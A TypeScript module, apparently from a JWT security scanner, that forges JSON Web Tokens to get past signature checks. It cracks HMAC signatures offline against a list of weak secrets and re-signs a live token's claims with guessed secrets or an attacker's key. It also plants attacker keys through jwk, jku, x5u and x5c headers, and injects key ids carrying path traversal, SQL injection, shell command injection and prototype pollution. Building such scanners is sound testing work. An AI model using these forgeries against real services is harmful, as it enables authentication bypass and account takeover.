import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import type { ForgedToken } from './forged-tokens.ts';
import { partsOf, signingInput, tokenOf } from './json-web-token.ts';

/** Secrets that stand in samples, tutorials and lists of leaked ones; the empty one first. */
export const COMMON_SECRETS = [
  ...[
    '',
    ' ',
    'secret',
    'Secret',
    'SECRET',
    'secret123',
    'secretkey',
    'secret_key',
    'secret-key',
    'mysecret',
  ],
  ...[
    'my-secret',
    'my_secret',
    'mysecretkey',
    'my-secret-key',
    'your-secret-key',
    'your_secret_key',
    'yoursecret',
  ],
  ...['your-256-bit-secret', 'your-384-bit-secret', 'your-512-bit-secret', 'your-secret', 'supersecret'],
  ...[
    'super-secret',
    'super_secret',
    'supersecretkey',
    'super-secret-key',
    'topsecret',
    'top-secret',
    'shhhhh',
  ],
  ...[
    'shhhhhared-secret',
    'shared-secret',
    'changeme',
    'change-me',
    'change_me',
    'changeit',
    'replaceme',
    'replace-me',
  ],
  ...[
    'todo',
    'TODO',
    'test',
    'testing',
    'test123',
    'testsecret',
    'test-secret',
    'test_secret',
    'dev',
    'devsecret',
  ],
  ...[
    'dev-secret',
    'development',
    'local',
    'localhost',
    'staging',
    'production',
    'example',
    'sample',
    'demo',
  ],
  ...[
    'default',
    'password',
    'Password',
    'password1',
    'password123',
    'passw0rd',
    'P@ssw0rd',
    'admin',
    'admin123',
  ],
  ...[
    'administrator',
    'root',
    'toor',
    'guest',
    'user',
    '123',
    '1234',
    '12345',
    '123456',
    '12345678',
    '123456789',
  ],
  ...[
    'qwerty',
    'letmein',
    'iloveyou',
    'abc123',
    'key',
    'apikey',
    'private',
    'privatekey',
    'private-key',
    'token',
  ],
  ...[
    'jwt',
    'jwtsecret',
    'jwt-secret',
    'jwt_secret',
    'JWT_SECRET',
    'jwtkey',
    'jwt-key',
    'jwt_key',
    'hmac',
    'hs256',
  ],
  ...[
    'HS256',
    'null',
    'undefined',
    'none',
    'true',
    'false',
    '0',
    'a',
    'x',
    'foo',
    'bar',
    'foobar',
    'hello',
    'helloworld',
  ],
  ...[
    'SECRET_KEY',
    'django-insecure',
    'keyboard cat',
    'session',
    'auth',
    'authsecret',
    'assay',
    'assay-api',
    'touchstone',
  ],
] as const;

type HashName = 'sha256' | 'sha384' | 'sha512';
const HASHES: Record<string, HashName> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

/** The token's claims under a header of one's own, signed with HMAC. */
export function hmacSigned(
  live: string,
  secret: string | Buffer,
  { alg = 'HS256', ...header }: Record<string, unknown> = {},
): string {
  const { header: original, claims } = partsOf(live);
  const parts = { header: { ...original, alg, ...header }, claims };
  const hash = HASHES[String(alg)] ?? 'sha256';
  return tokenOf({
    ...parts,
    signature: createHmac(hash, secret).update(signingInput(parts)).digest('base64url'),
  });
}

/** The common secrets by which the token's own signature holds, tried offline; empty where it is none of HMAC. */
export function secretsBehind(live: string): string[] {
  const { header, claims, signature } = partsOf(live);
  const hash = HASHES[String(header['alg'])];
  if (hash === undefined) return [];
  // Over the token's own bytes: encoding its parts anew could change them.
  const input = live.slice(0, live.lastIndexOf('.')) || signingInput({ header, claims });
  return COMMON_SECRETS.filter(
    (secret) => createHmac(hash, secret).update(input).digest('base64url') === signature,
  );
}

/** A key pair of an attacker, for ES256. */
export function attackersKey(): { privateKey: KeyObject; publicKey: KeyObject } {
  return generateKeyPairSync('ec', { namedCurve: 'P-256' });
}

/** The token's claims under a header of one's own, properly signed with an attacker's key (ES256). */
export function signedByAttacker(
  live: string,
  privateKey: KeyObject,
  header: Record<string, unknown>,
): string {
  const { header: original, claims } = partsOf(live);
  const parts = { header: { ...original, alg: 'ES256', ...header }, claims };
  const signature = sign('sha256', Buffer.from(signingInput(parts)), {
    key: privateKey,
    dsaEncoding: 'ieee-p1363',
  });
  return tokenOf({ ...parts, signature: signature.toString('base64url') });
}

/** Key ids that a careless lookup takes for a file, a row or a command, with the secret that it would then find. */
const KEY_IDS = [
  { kid: '', secret: '' },
  { kid: '/dev/null', secret: '' },
  { kid: '../../../../../../dev/null', secret: '' },
  { kid: 'file:///dev/null', secret: '' },
  { kid: "x' UNION SELECT '1';--", secret: '1' },
  { kid: "x' UNION SELECT '1", secret: '1' },
  { kid: '|sleep 20', secret: '' },
  { kid: '$(sleep 20)', secret: '' },
  { kid: '`sleep 20`', secret: '' },
  { kid: '__proto__', secret: '' },
  { kid: 'constructor', secret: '' },
] as const;

/** Tokens whose header names the key to check them with (RFC 7515, 4.1.2 to 4.1.6); `url` is where an attacker would serve it. */
export function tokensThatBringTheirKey(live: string, url: string): ForgedToken[] {
  const { privateKey, publicKey } = attackersKey();
  const jwk = publicKey.export({ format: 'jwk' });
  const kid = 'attacker';
  const byAttacker = (flaw: string, header: Record<string, unknown>) => ({
    flaw,
    token: signedByAttacker(live, privateKey, header),
  });
  const certificate = publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
  return [
    byAttacker('key in jwk', { jwk }),
    byAttacker('key in jwk, with its id', { jwk: { ...jwk, kid }, kid }),
    byAttacker('key set at jku', { jku: `${url}/jwks.json`, kid }),
    byAttacker('certificate at x5u', { x5u: `${url}/certificate.pem` }),
    byAttacker('certificate in x5c', { x5c: [certificate] }),
    byAttacker('key id that is a URL', { kid: `${url}/key.pem` }),
    ...KEY_IDS.map(({ kid: id, secret }) => ({
      flaw: `key id ${JSON.stringify(id)}`,
      token: hmacSigned(live, secret, { kid: id }),
    })),
    ...KEY_IDS.map(({ kid: id }) => byAttacker(`key id ${JSON.stringify(id)}, attacker's key`, { kid: id })),
  ];
}
